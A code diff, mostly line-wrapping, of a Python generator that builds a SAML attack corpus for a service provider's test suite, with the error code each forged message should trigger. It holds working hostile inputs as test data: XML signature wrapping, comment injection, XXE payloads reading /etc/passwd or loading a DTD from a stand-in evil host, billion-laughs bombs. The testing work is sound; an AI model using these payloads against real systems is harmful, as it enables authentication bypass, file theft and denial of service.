@@ -32,6 +32,7 @@ request to seed, the expected outcome) and, when there is a SAML message,
 with every run (fresh keys, fresh instants).  Instants are relative to the
 corpus's ``now``, to which the test pins the SP's clock.
 """
+
 from __future__ import annotations
 
 import argparse
@@ -137,7 +138,9 @@ class Case:
     seed: Seed | None = None  # stored before the post
     browser: str = "seed"  # seed: the seed's browser cookie; other: another token; none: no cookie
     steps: tuple[str, ...] = ()  # see tests/functional/test_attack_corpus.py
-    valid_message: bool = False  # the message itself is a good login; the attack is around it (replay, cookie, RelayState)
+    valid_message: bool = (
+        False  # the message itself is a good login; the attack is around it (replay, cookie, RelayState)
+    )
     # sha256 of the signed content (content_digest) of every valid login for the
     # seed's request that the test IdP signed while making this case, such as a
     # captured Response wrapped by an XSW case: the fuzzers' forgery oracle
@@ -156,7 +159,14 @@ class Case:
         return cls(**data, seed=Seed(**{**seed, "loa": tuple(seed["loa"])}) if seed else None, xml=xml)
 
     def manifest_entry(self) -> dict:
-        return {"name": self.name, "group": self.group, "endpoint": self.endpoint, "expect": self.expect, "code": self.code, "doc": self.doc}
+        return {
+            "name": self.name,
+            "group": self.group,
+            "endpoint": self.endpoint,
+            "expect": self.expect,
+            "code": self.code,
+            "doc": self.doc,
+        }
 
 
 # ---------------------------------------------------------------- the keys and the clock
@@ -293,7 +303,14 @@ def acs_case(ctx: Ctx, d: CaseDef, xml: bytes | None, seed: Seed | None, **field
     return dict(form=form, seed=seed, xml=xml, **fields)
 
 
-def signed(ctx: Ctx, d: CaseDef, method: str = "bankid", factory: ResponseFactory | None = None, valid_message: bool = False, **overrides) -> dict:
+def signed(
+    ctx: Ctx,
+    d: CaseDef,
+    method: str = "bankid",
+    factory: ResponseFactory | None = None,
+    valid_message: bool = False,
+    **overrides,
+) -> dict:
     """The common case: one message from ``spec(**overrides)``, answering a seeded request."""
     seed = ctx.seed(d.name, method)
     # A valid message the IdP signs and a case then changes (post_process) is an
@@ -423,9 +440,15 @@ def _assertion_xsw(variant: int, keep_response_signature: bool):
 _XSW = {
     3: ("evil-assertion-before-signed-one", "an unsigned evil assertion before the signed one"),
     4: ("signed-assertion-inside-evil-assertion", "the signed assertion wrapped inside an evil one"),
-    5: ("signature-moved-to-evil-assertion", "the signature moved to an evil assertion with the original's ID, the original renamed after it"),
+    5: (
+        "signature-moved-to-evil-assertion",
+        "the signature moved to an evil assertion with the original's ID, the original renamed after it",
+    ),
     6: ("original-inside-moved-signature", "as XSW5, with the original assertion inside the moved Signature"),
-    7: ("signed-assertion-moved-to-extensions", "the signed assertion moved into samlp:Extensions, an evil one in its place"),
+    7: (
+        "signed-assertion-moved-to-extensions",
+        "the signed assertion moved into samlp:Extensions, an evil one in its place",
+    ),
     8: ("original-in-ds-object", "as XSW5, with the original assertion inside a ds:Object of the moved Signature"),
 }
 # What stops each: with the Response signature kept, the digest of the
@@ -433,12 +456,30 @@ _XSW = {
 # anything inside is read); with it stripped, the rule that the Response must
 # be signed.
 _XSW_KEPT = {
-    3: (ErrorCode.SIGNATURE_INVALID, "the Response signature covers the whole message, so its digest no longer matches"),
-    4: (ErrorCode.SIGNATURE_INVALID, "the Response signature covers the whole message, so its digest no longer matches"),
-    5: (ErrorCode.SIGNATURE_INVALID, "the Response signature covers the whole message, so its digest no longer matches"),
-    6: (ErrorCode.SIGNATURE_INVALID, "the Response signature covers the whole message, so its digest no longer matches"),
-    7: (ErrorCode.SIGNATURE_INVALID, "the Response signature covers the whole message, so its digest no longer matches"),
-    8: (ErrorCode.SIGNATURE_INVALID, "the Response signature covers the whole message, so its digest no longer matches"),
+    3: (
+        ErrorCode.SIGNATURE_INVALID,
+        "the Response signature covers the whole message, so its digest no longer matches",
+    ),
+    4: (
+        ErrorCode.SIGNATURE_INVALID,
+        "the Response signature covers the whole message, so its digest no longer matches",
+    ),
+    5: (
+        ErrorCode.SIGNATURE_INVALID,
+        "the Response signature covers the whole message, so its digest no longer matches",
+    ),
+    6: (
+        ErrorCode.SIGNATURE_INVALID,
+        "the Response signature covers the whole message, so its digest no longer matches",
+    ),
+    7: (
+        ErrorCode.SIGNATURE_INVALID,
+        "the Response signature covers the whole message, so its digest no longer matches",
+    ),
+    8: (
+        ErrorCode.SIGNATURE_INVALID,
+        "the Response signature covers the whole message, so its digest no longer matches",
+    ),
 }
 for _n, (_slug, _what) in _XSW.items():
     _code, _why = _XSW_KEPT[_n]
@@ -551,14 +592,20 @@ def _ns_xml_xmlns(ctx, d):
 def _ns_issuer_rebound(ctx, d):
     """The Issuer's saml: prefix rebound to a look-alike namespace: there is then no saml:Issuer at all."""
     return _captured_edited(
-        ctx, d, lambda xml: xml.replace(b"<saml:Issuer>", b'<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion#">', 1)
+        ctx,
+        d,
+        lambda xml: xml.replace(
+            b"<saml:Issuer>", b'<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion#">', 1
+        ),
     )
 
 
 @case("ns-response-in-saml1-protocol-namespace", "namespace", ErrorCode.NOT_A_RESPONSE)
 def _ns_saml1(ctx, d):
     """The samlp: prefix bound to the SAML 1.x protocol namespace: the root is not a SAML 2.0 Response."""
-    return _captured_edited(ctx, d, lambda xml: xml.replace(NS["samlp"].encode(), b"urn:oasis:names:tc:SAML:1.0:protocol"))
+    return _captured_edited(
+        ctx, d, lambda xml: xml.replace(NS["samlp"].encode(), b"urn:oasis:names:tc:SAML:1.0:protocol")
+    )
 
 
 def _encrypted_instead(ctx: Ctx, tag: str):
@@ -583,7 +630,9 @@ def _ns_foreign_assertion(ctx, d):
 @case("ns-default-namespace-undeclared-on-issuer", "namespace", ErrorCode.XML_NAMESPACE_INVALID)
 def _ns_undeclare(ctx, d):
     """An Issuer in no namespace (xmlns=""), which a prefix-blind reader takes for saml:Issuer; the empty namespace name is refused."""
-    return _captured_edited(ctx, d, lambda xml: re.sub(rb"<saml:Issuer>(.*?)</saml:Issuer>", rb'<Issuer xmlns="">\1</Issuer>', xml, count=1))
+    return _captured_edited(
+        ctx, d, lambda xml: re.sub(rb"<saml:Issuer>(.*?)</saml:Issuer>", rb'<Issuer xmlns="">\1</Issuer>', xml, count=1)
+    )
 
 
 @case("void-c14n-relative-namespace-uri", "void-c14n", ErrorCode.XML_NAMESPACE_INVALID)
@@ -603,7 +652,9 @@ def _void_digest(ctx, d):
     """The DigestValue is SHA-256 of nothing: a signature over an empty node set, refused before any crypto."""
 
     def void(r):
-        r.find("ds:Signature/ds:SignedInfo/ds:Reference/ds:DigestValue", NS).text = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
+        r.find(
+            "ds:Signature/ds:SignedInfo/ds:Reference/ds:DigestValue", NS
+        ).text = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
 
     return signed(ctx, d, post_process=void)
 
@@ -611,7 +662,9 @@ def _void_digest(ctx, d):
 # ---------------------------------------------------------------- signature profile
 
 
-def _resign(ctx: Ctx, d: CaseDef, key: PrivateKey | None = None, *, method: str = "bankid", spec_overrides=None, **sign) -> dict:
+def _resign(
+    ctx: Ctx, d: CaseDef, key: PrivateKey | None = None, *, method: str = "bankid", spec_overrides=None, **sign
+) -> dict:
     """A Response signed by custom_sign(**sign) instead of the normal signature."""
     seed = ctx.seed(d.name, method)
     overrides = dict(spec_overrides or {})
@@ -642,13 +695,17 @@ def _sig_ref_other(ctx, d):
 @case("sig-reference-uri-external-document", "signature", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
 def _sig_ref_external(ctx, d):
     """A Reference to an external document (fetched by lax verifiers); refused before anything is fetched."""
-    return _after_signing(ctx, d, lambda r: r.find("ds:Signature/ds:SignedInfo/ds:Reference", NS).set("URI", EVIL + "/signed.xml"))
+    return _after_signing(
+        ctx, d, lambda r: r.find("ds:Signature/ds:SignedInfo/ds:Reference", NS).set("URI", EVIL + "/signed.xml")
+    )
 
 
 @case("sig-reference-uri-xpointer", "signature", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
 def _sig_ref_xpointer(ctx, d):
     """A Reference URI using an XPointer expression (#xpointer(/)) instead of a bare ID."""
-    return _after_signing(ctx, d, lambda r: r.find("ds:Signature/ds:SignedInfo/ds:Reference", NS).set("URI", "#xpointer(/)"))
+    return _after_signing(
+        ctx, d, lambda r: r.find("ds:Signature/ds:SignedInfo/ds:Reference", NS).set("URI", "#xpointer(/)")
+    )
 
 
 @case("sig-two-references", "signature", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
@@ -680,7 +737,14 @@ def _add_transform(algorithm: str, child: str | None = None):
 @case("sig-transform-xpath", "signature", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
 def _sig_xpath(ctx, d):
     """An XPath filter transform, which can select nothing or something else than the element."""
-    return _after_signing(ctx, d, _add_transform("http://www.w3.org/TR/1999/REC-xpath-19991116", f'<ds:XPath xmlns:ds="{NS["ds"]}">not(ancestor-or-self::*)</ds:XPath>'))
+    return _after_signing(
+        ctx,
+        d,
+        _add_transform(
+            "http://www.w3.org/TR/1999/REC-xpath-19991116",
+            f'<ds:XPath xmlns:ds="{NS["ds"]}">not(ancestor-or-self::*)</ds:XPath>',
+        ),
+    )
 
 
 @case("sig-transform-xslt", "signature", ErrorCode.SIGNATURE_PROFILE_VIOLATION)
@@ -751,13 +815,25 @@ def _sig_digest_sha1(ctx, d):
 @case("sig-rsa-md5-algorithm-uri", "algorithms", ErrorCode.SIGNATURE_ALGORITHM_FORBIDDEN)
 def _sig_md5(ctx, d):
     """SignatureMethod rsa-md5; the algorithm is refused before any crypto."""
-    return _after_signing(ctx, d, lambda r: r.find("ds:Signature/ds:SignedInfo/ds:SignatureMethod", NS).set("Algorithm", "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"))
+    return _after_signing(
+        ctx,
+        d,
+        lambda r: r.find("ds:Signature/ds:SignedInfo/ds:SignatureMethod", NS).set(
+            "Algorithm", "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"
+        ),
+    )
 
 
 @case("sig-hmac-sha256-key-confusion", "algorithms", ErrorCode.SIGNATURE_ALGORITHM_FORBIDDEN)
 def _sig_hmac(ctx, d):
     """SignatureMethod hmac-sha256: a verifier that used the public key as the HMAC secret would accept anyone's signature."""
-    return _after_signing(ctx, d, lambda r: r.find("ds:Signature/ds:SignedInfo/ds:SignatureMethod", NS).set("Algorithm", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"))
+    return _after_signing(
+        ctx,
+        d,
+        lambda r: r.find("ds:Signature/ds:SignedInfo/ds:SignatureMethod", NS).set(
+            "Algorithm", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
+        ),
+    )
 
 
 @case("sig-content-changed-after-signing", "signature", ErrorCode.SIGNATURE_INVALID)
@@ -769,7 +845,11 @@ def _sig_changed(ctx, d):
 @case("sig-signature-value-replaced", "signature", ErrorCode.SIGNATURE_INVALID)
 def _sig_value(ctx, d):
     """The SignatureValue replaced by well-formed base64 that is not a signature."""
-    return _after_signing(ctx, d, lambda r: setattr(r.find("ds:Signature/ds:SignatureValue", NS), "text", base64.b64encode(b"\0" * 256).decode()))
+    return _after_signing(
+        ctx,
+        d,
+        lambda r: setattr(r.find("ds:Signature/ds:SignatureValue", NS), "text", base64.b64encode(b"\0" * 256).decode()),
+    )
 
 
 @case("sig-assertion-signed-by-attacker-in-good-response", "signature", ErrorCode.SIGNATURE_INVALID)
@@ -807,7 +887,12 @@ def _key_retrieval(ctx, d):
         key_info = r.find("ds:Signature/ds:KeyInfo", NS)
         if key_info is None:
             key_info = etree.SubElement(r.find("ds:Signature", NS), DS + "KeyInfo")
-        etree.SubElement(key_info, DS + "RetrievalMethod", URI=EVIL + "/key.der", Type="http://www.w3.org/2000/09/xmldsig#rawX509Certificate")
+        etree.SubElement(
+            key_info,
+            DS + "RetrievalMethod",
+            URI=EVIL + "/key.der",
+            Type="http://www.w3.org/2000/09/xmldsig#rawX509Certificate",
+        )
 
     return _after_signing(ctx, d, add)
 
@@ -828,7 +913,9 @@ def _key_der(ctx, d):
 @case("key-attacker-entity-not-in-metadata", "keyinfo", ErrorCode.ISSUER_UNKNOWN)
 def _key_self_issued(ctx, d):
     """A Response from the attacker's own entityID with their own key and certificate: not a trusted IdP."""
-    return _resign(ctx, d, ctx.keys.attacker_key, key_info_cert=ctx.keys.attacker_cert, spec_overrides={"issuer": EVIL + "/idp"})
+    return _resign(
+        ctx, d, ctx.keys.attacker_key, key_info_cert=ctx.keys.attacker_cert, spec_overrides={"issuer": EVIL + "/idp"}
+    )
 
 
 # ---------------------------------------------------------------- comment injection (CVE-2017-11427)
@@ -884,25 +971,41 @@ def _comment_issuer(ctx, d):
 @case("comment-in-audience", "comment", ErrorCode.ATTRIBUTE_VALUE_MALFORMED)
 def _comment_audience(ctx, d):
     """A comment inside Audience."""
-    return signed(ctx, d, mutate_assertion=lambda a: _COMMENT(a.find("saml:Conditions/saml:AudienceRestriction/saml:Audience", NS)))
+    return signed(
+        ctx,
+        d,
+        mutate_assertion=lambda a: _COMMENT(a.find("saml:Conditions/saml:AudienceRestriction/saml:Audience", NS)),
+    )
 
 
 @case("comment-in-authn-context-class-ref", "comment", ErrorCode.ATTRIBUTE_VALUE_MALFORMED)
 def _comment_loa(ctx, d):
     """A comment inside AuthnContextClassRef (the LoA)."""
-    return signed(ctx, d, mutate_assertion=lambda a: _COMMENT(a.find("saml:AuthnStatement/saml:AuthnContext/saml:AuthnContextClassRef", NS)))
+    return signed(
+        ctx,
+        d,
+        mutate_assertion=lambda a: _COMMENT(
+            a.find("saml:AuthnStatement/saml:AuthnContext/saml:AuthnContextClassRef", NS)
+        ),
+    )
 
 
 @case("processing-instruction-in-personal-identity-number", "comment", ErrorCode.ATTRIBUTE_VALUE_MALFORMED)
 def _pi_pnr(ctx, d):
     """A processing instruction splitting personalIdentityNumber, the same truncation by another node type."""
-    return signed(ctx, d, mutate_assertion=_in_attribute(PERSONAL_IDENTITY_NUMBER, _split_with(lambda: etree.ProcessingInstruction("x"))))
+    return signed(
+        ctx,
+        d,
+        mutate_assertion=_in_attribute(PERSONAL_IDENTITY_NUMBER, _split_with(lambda: etree.ProcessingInstruction("x"))),
+    )
 
 
 @case("element-in-personal-identity-number", "comment", ErrorCode.ATTRIBUTE_VALUE_MALFORMED)
 def _element_pnr(ctx, d):
     """An element splitting personalIdentityNumber."""
-    return signed(ctx, d, mutate_assertion=_in_attribute(PERSONAL_IDENTITY_NUMBER, _split_with(lambda: etree.Element(A + "x"))))
+    return signed(
+        ctx, d, mutate_assertion=_in_attribute(PERSONAL_IDENTITY_NUMBER, _split_with(lambda: etree.Element(A + "x")))
+    )
 
 
 # ---------------------------------------------------------------- parser input
@@ -912,7 +1015,10 @@ XXE_PARAMETER = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "https:/
 DTD_EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE samlp:Response PUBLIC "-//evil//x" "https://evil.example/saml.dtd"><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"/>'
 BILLION_LAUGHS = (
     b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
-    + b"".join(b'<!ENTITY lol%d "%s">' % (i, b"".join([b"&lol%s;" % (b"" if i == 1 else str(i - 1).encode())] * 10)) for i in range(1, 10))
+    + b"".join(
+        b'<!ENTITY lol%d "%s">' % (i, b"".join([b"&lol%s;" % (b"" if i == 1 else str(i - 1).encode())] * 10))
+        for i in range(1, 10)
+    )
     + b"]><lolz>&lol9;</lolz>"
 )
 QUADRATIC = b'<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "' + b"A" * 20000 + b'">]><q>' + b"&a;" * 5000 + b"</q>"
@@ -937,33 +1043,131 @@ def _register_raw(name, group, code, doc, xml=None, **kw):
     case(name, group, code)(build)
 
 
-_register_raw("parser-doctype-internal-subset", "parser", ErrorCode.XML_DTD_FORBIDDEN, "A DOCTYPE with an internal entity declaration: no DTD at all is accepted.", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>')
-_register_raw("parser-xxe-external-file-entity", "parser", ErrorCode.XML_DTD_FORBIDDEN, "XXE: an external entity reading file:///etc/passwd into the Response.", XXE_FILE)
-_register_raw("parser-xxe-parameter-entity-remote-dtd", "parser", ErrorCode.XML_DTD_FORBIDDEN, "XXE: a parameter entity loading a remote DTD (out-of-band exfiltration).", XXE_PARAMETER)
-_register_raw("parser-doctype-external-public-dtd", "parser", ErrorCode.XML_DTD_FORBIDDEN, "A DOCTYPE naming a remote DTD (network access at parse time).", DTD_EXTERNAL)
-_register_raw("parser-billion-laughs", "parser", ErrorCode.XML_DTD_FORBIDDEN, "Billion laughs: nested entities expanding to 10^9 bytes.", BILLION_LAUGHS)
-_register_raw("parser-quadratic-blowup", "parser", ErrorCode.XML_DTD_FORBIDDEN, "Quadratic blowup: one 20 kB entity referenced 5,000 times (no nesting to detect).", QUADRATIC)
 _register_raw(
-    "parser-billion-laughs-in-utf16", "parser", ErrorCode.XML_DTD_FORBIDDEN,
+    "parser-doctype-internal-subset",
+    "parser",
+    ErrorCode.XML_DTD_FORBIDDEN,
+    "A DOCTYPE with an internal entity declaration: no DTD at all is accepted.",
+    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>',
+)
+_register_raw(
+    "parser-xxe-external-file-entity",
+    "parser",
+    ErrorCode.XML_DTD_FORBIDDEN,
+    "XXE: an external entity reading file:///etc/passwd into the Response.",
+    XXE_FILE,
+)
+_register_raw(
+    "parser-xxe-parameter-entity-remote-dtd",
+    "parser",
+    ErrorCode.XML_DTD_FORBIDDEN,
+    "XXE: a parameter entity loading a remote DTD (out-of-band exfiltration).",
+    XXE_PARAMETER,
+)
+_register_raw(
+    "parser-doctype-external-public-dtd",
+    "parser",
+    ErrorCode.XML_DTD_FORBIDDEN,
+    "A DOCTYPE naming a remote DTD (network access at parse time).",
+    DTD_EXTERNAL,
+)
+_register_raw(
+    "parser-billion-laughs",
+    "parser",
+    ErrorCode.XML_DTD_FORBIDDEN,
+    "Billion laughs: nested entities expanding to 10^9 bytes.",
+    BILLION_LAUGHS,
+)
+_register_raw(
+    "parser-quadratic-blowup",
+    "parser",
+    ErrorCode.XML_DTD_FORBIDDEN,
+    "Quadratic blowup: one 20 kB entity referenced 5,000 times (no nesting to detect).",
+    QUADRATIC,
+)
+_register_raw(
+    "parser-billion-laughs-in-utf16",
+    "parser",
+    ErrorCode.XML_DTD_FORBIDDEN,
     "Billion laughs in UTF-16: the prolog is decoded before the DOCTYPE search, so libxml2 never reads the DTD.",
     BILLION_LAUGHS.replace(b'<?xml version="1.0"?>', b"").decode().encode("utf-16"),
 )
 _register_raw(
-    "parser-doctype-in-utf16", "parser", ErrorCode.XML_DTD_FORBIDDEN,
+    "parser-doctype-in-utf16",
+    "parser",
+    ErrorCode.XML_DTD_FORBIDDEN,
     "A DOCTYPE in a UTF-16 document with an XML declaration: found in the decoded prolog, before parsing.",
     '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x "y">]><r/>'.encode("utf-16"),
 )
-_register_raw("parser-deeply-nested-elements", "parser", ErrorCode.XML_TOO_MANY_NODES, "10,000 nested elements (stack exhaustion in recursive code): over the node cap, refused before parsing.", b"<a>" * 10000 + b"</a>" * 10000)
-_register_raw("parser-not-well-formed", "parser", ErrorCode.XML_MALFORMED, "An unterminated start tag.", b"<samlp:Response")
-_register_raw("parser-binary-garbage", "parser", ErrorCode.XML_MALFORMED, "Base64 of bytes that are not XML.", bytes(range(256)) * 4)
-_register_raw("parser-oversized-response", "parser", ErrorCode.RESPONSE_TOO_LARGE, "A SAMLResponse of 1 MiB: refused by its length before it is decoded.", saml_response="A" * (1024 * 1024))
-_register_raw("parser-oversized-by-one-character", "parser", ErrorCode.RESPONSE_TOO_LARGE, "A SAMLResponse one character over the cap.", saml_response="A" * (MAX_RESPONSE_BYTES + 1))
-_register_raw("parser-non-base64-characters", "parser", ErrorCode.RESPONSE_NOT_BASE64, "Characters outside the base64 alphabet.", saml_response="PHNhbWxwOlJlc3BvbnNl*!$")
-_register_raw("parser-base64-url-safe-alphabet", "parser", ErrorCode.RESPONSE_NOT_BASE64, "The URL-safe alphabet (- and _), which lenient decoders map or drop.", saml_response="PD94bWwg-_-_")
-_register_raw("parser-base64-bad-padding", "parser", ErrorCode.RESPONSE_NOT_BASE64, "Base64 with its padding cut off.", saml_response="PHNhbWxwOlJlc3BvbnNlLz4")
-_register_raw("parser-empty-response", "parser", ErrorCode.RESPONSE_MISSING, "An empty SAMLResponse field.", saml_response="")
-_register_raw("parser-not-a-response-authn-request", "parser", ErrorCode.NOT_A_RESPONSE, "An AuthnRequest posted to the ACS.", f'<samlp:AuthnRequest xmlns:samlp="{NS["samlp"]}" ID="_x" Version="2.0"/>'.encode())
-_register_raw("parser-response-version-1-1", "parser", ErrorCode.NOT_A_RESPONSE, "A Response claiming Version 1.1.", f'<samlp:Response xmlns:samlp="{NS["samlp"]}" ID="_x" Version="1.1"/>'.encode())
+_register_raw(
+    "parser-deeply-nested-elements",
+    "parser",
+    ErrorCode.XML_TOO_MANY_NODES,
+    "10,000 nested elements (stack exhaustion in recursive code): over the node cap, refused before parsing.",
+    b"<a>" * 10000 + b"</a>" * 10000,
+)
+_register_raw(
+    "parser-not-well-formed", "parser", ErrorCode.XML_MALFORMED, "An unterminated start tag.", b"<samlp:Response"
+)
+_register_raw(
+    "parser-binary-garbage",
+    "parser",
+    ErrorCode.XML_MALFORMED,
+    "Base64 of bytes that are not XML.",
+    bytes(range(256)) * 4,
+)
+_register_raw(
+    "parser-oversized-response",
+    "parser",
+    ErrorCode.RESPONSE_TOO_LARGE,
+    "A SAMLResponse of 1 MiB: refused by its length before it is decoded.",
+    saml_response="A" * (1024 * 1024),
+)
+_register_raw(
+    "parser-oversized-by-one-character",
+    "parser",
+    ErrorCode.RESPONSE_TOO_LARGE,
+    "A SAMLResponse one character over the cap.",
+    saml_response="A" * (MAX_RESPONSE_BYTES + 1),
+)
+_register_raw(
+    "parser-non-base64-characters",
+    "parser",
+    ErrorCode.RESPONSE_NOT_BASE64,
+    "Characters outside the base64 alphabet.",
+    saml_response="PHNhbWxwOlJlc3BvbnNl*!$",
+)
+_register_raw(
+    "parser-base64-url-safe-alphabet",
+    "parser",
+    ErrorCode.RESPONSE_NOT_BASE64,
+    "The URL-safe alphabet (- and _), which lenient decoders map or drop.",
+    saml_response="PD94bWwg-_-_",
+)
+_register_raw(
+    "parser-base64-bad-padding",
+    "parser",
+    ErrorCode.RESPONSE_NOT_BASE64,
+    "Base64 with its padding cut off.",
+    saml_response="PHNhbWxwOlJlc3BvbnNlLz4",
+)
+_register_raw(
+    "parser-empty-response", "parser", ErrorCode.RESPONSE_MISSING, "An empty SAMLResponse field.", saml_response=""
+)
+_register_raw(
+    "parser-not-a-response-authn-request",
+    "parser",
+    ErrorCode.NOT_A_RESPONSE,
+    "An AuthnRequest posted to the ACS.",
+    f'<samlp:AuthnRequest xmlns:samlp="{NS["samlp"]}" ID="_x" Version="2.0"/>'.encode(),
+)
+_register_raw(
+    "parser-response-version-1-1",
+    "parser",
+    ErrorCode.NOT_A_RESPONSE,
+    "A Response claiming Version 1.1.",
+    f'<samlp:Response xmlns:samlp="{NS["samlp"]}" ID="_x" Version="1.1"/>'.encode(),
+)
 
 
 @case("parser-no-saml-response-field", "parser", ErrorCode.RESPONSE_MISSING)
@@ -991,9 +1195,19 @@ def _parser_doctype_signed(ctx, d):
 def _parser_logout(ctx, d):
     """A signed LogoutResponse (another message type from the same IdP) posted to the ACS."""
     seed = ctx.seed(d.name)
-    root = etree.Element(P + "LogoutResponse", nsmap={"samlp": NS["samlp"], "saml": NS["saml"]}, ID="_lr" + seed.request_id[1:20], Version="2.0", IssueInstant=instant(ctx.now), Destination=ACS_URL, InResponseTo=seed.request_id)
+    root = etree.Element(
+        P + "LogoutResponse",
+        nsmap={"samlp": NS["samlp"], "saml": NS["saml"]},
+        ID="_lr" + seed.request_id[1:20],
+        Version="2.0",
+        IssueInstant=instant(ctx.now),
+        Destination=ACS_URL,
+        InResponseTo=seed.request_id,
+    )
     etree.SubElement(root, A + "Issuer").text = BANKID_IDP
-    etree.SubElement(etree.SubElement(root, P + "Status"), P + "StatusCode", Value="urn:oasis:names:tc:SAML:2.0:status:Success")
+    etree.SubElement(
+        etree.SubElement(root, P + "Status"), P + "StatusCode", Value="urn:oasis:names:tc:SAML:2.0:status:Success"
+    )
     custom_sign(root, ctx.keys.idp_key)
     return acs_case(ctx, d, tostring(root), seed)
 
@@ -1023,57 +1237,70 @@ def _register_cost(name, code, doc, build_message):
 
 
 _register_cost(
-    "cost-sorted-attributes", ErrorCode.XML_TOO_MANY_NODES,
+    "cost-sorted-attributes",
+    ErrorCode.XML_TOO_MANY_NODES,
     "The reported attack: a forged SignatureValue and ~17,000 attributes on the root, in sorted order (quadratic to canonicalise); counted on the bytes, refused before parsing.",
     lambda ctx, seed: adversarial.sorted_attributes(_captured(ctx, seed), MAX_RESPONSE_BYTES),
 )
 _register_cost(
-    "cost-namespaced-attributes", ErrorCode.XML_TOO_MANY_NODES,
+    "cost-namespaced-attributes",
+    ErrorCode.XML_TOO_MANY_NODES,
     "As cost-sorted-attributes with namespaced attributes, which the schema allows, so a schema check first would not stop it.",
     lambda ctx, seed: adversarial.namespaced_attributes(_captured(ctx, seed), MAX_RESPONSE_BYTES),
 )
 _register_cost(
-    "cost-namespace-declarations", ErrorCode.XML_TOO_MANY_NODES,
+    "cost-namespace-declarations",
+    ErrorCode.XML_TOO_MANY_NODES,
     "A forged SignatureValue and ~7,000 namespace declarations on the root; refused before parsing.",
     lambda ctx, seed: adversarial.namespace_declarations(_captured(ctx, seed), MAX_RESPONSE_BYTES),
 )
 _register_cost(
-    "cost-deep-nesting", ErrorCode.XML_TOO_MANY_NODES,
+    "cost-deep-nesting",
+    ErrorCode.XML_TOO_MANY_NODES,
     "A forged SignatureValue and elements nested as deep as the cap on the Response's size allows; refused before parsing.",
     lambda ctx, seed: adversarial.deep_nesting(_captured(ctx, seed), MAX_RESPONSE_BYTES),
 )
 _register_cost(
-    "cost-many-signatures", ErrorCode.XML_TOO_MANY_NODES,
+    "cost-many-signatures",
+    ErrorCode.XML_TOO_MANY_NODES,
     "The Response's Signature repeated beside itself as often as the size cap allows; refused before parsing.",
     lambda ctx, seed: adversarial.many_signatures(_captured(ctx, seed), MAX_RESPONSE_BYTES),
 )
 _register_cost(
-    "cost-attributes-on-one-element", ErrorCode.XML_TOO_MANY_ATTRIBUTES,
+    "cost-attributes-on-one-element",
+    ErrorCode.XML_TOO_MANY_ATTRIBUTES,
     "1,500 attributes on the root, under the node cap: the per-element cap refuses them right after parsing, before any canonicalisation.",
     lambda ctx, seed: adversarial.sorted_attributes(_captured(ctx, seed), MAX_RESPONSE_BYTES, count=1_500),
 )
 _register_cost(
-    "cost-namespace-declarations-under-node-cap", ErrorCode.XML_TOO_MANY_NAMESPACES,
+    "cost-namespace-declarations-under-node-cap",
+    ErrorCode.XML_TOO_MANY_NAMESPACES,
     "300 namespace declarations on the root, under the node cap: the declaration cap refuses them before any canonicalisation.",
     lambda ctx, seed: adversarial.namespace_declarations(_captured(ctx, seed), MAX_RESPONSE_BYTES, count=300),
 )
 _register_cost(
-    "cost-deep-nesting-under-node-cap", ErrorCode.XML_TOO_DEEP,
+    "cost-deep-nesting-under-node-cap",
+    ErrorCode.XML_TOO_DEEP,
     "Elements nested 200 deep, under the node cap (libxml2 would parse up to 256): the depth cap refuses them.",
     lambda ctx, seed: adversarial.deep_nesting(_captured(ctx, seed), MAX_RESPONSE_BYTES, depth=200),
 )
 _register_cost(
-    "cost-many-signatures-under-node-cap", ErrorCode.SIGNATURE_PROFILE_VIOLATION,
+    "cost-many-signatures-under-node-cap",
+    ErrorCode.SIGNATURE_PROFILE_VIOLATION,
     "The Response's Signature three times beside itself, under every cap: more than one Signature is a profile violation, found before any cryptography.",
     lambda ctx, seed: adversarial.many_signatures(_captured(ctx, seed), MAX_RESPONSE_BYTES, count=3),
 )
 _register_cost(
-    "cost-forged-signature-idp-with-several-keys", ErrorCode.SIGNATURE_INVALID,
+    "cost-forged-signature-idp-with-several-keys",
+    ErrorCode.SIGNATURE_INVALID,
     "A forged SignatureValue from an IdP with six signing keys in metadata, the body grown to just under the node cap: each key checks the small SignedInfo only; no digest of the body is made.",
-    lambda ctx, seed: adversarial.grown_body(ctx.idp.build(ctx.spec(seed, issuer=MULTIKEY_IDP)), MAX_RESPONSE_BYTES, 1_900, forge=True),
+    lambda ctx, seed: adversarial.grown_body(
+        ctx.idp.build(ctx.spec(seed, issuer=MULTIKEY_IDP)), MAX_RESPONSE_BYTES, 1_900, forge=True
+    ),
 )
 _register_cost(
-    "cost-captured-signature-grown-body", ErrorCode.SIGNATURE_INVALID,
+    "cost-captured-signature-grown-body",
+    ErrorCode.SIGNATURE_INVALID,
     "A Response the IdP really signed (the attacker's own login), its body grown after signing to just under the node cap: SignedInfo verifies, the one digest of the grown body does not match. The most work an anonymous POST can cause.",
     lambda ctx, seed: adversarial.grown_body(_captured(ctx, seed), MAX_RESPONSE_BYTES, 1_900, forge=False),
 )
@@ -1092,21 +1319,95 @@ _LOGOUT_REQUEST = (
     f'IssueInstant="2026-11-28T00:00:00Z"><saml:Issuer>{BANKID_IDP}</saml:Issuer><saml:NameID>x</saml:NameID></samlp:LogoutRequest>'
 ).encode()
 _REDIRECT_CASES = [
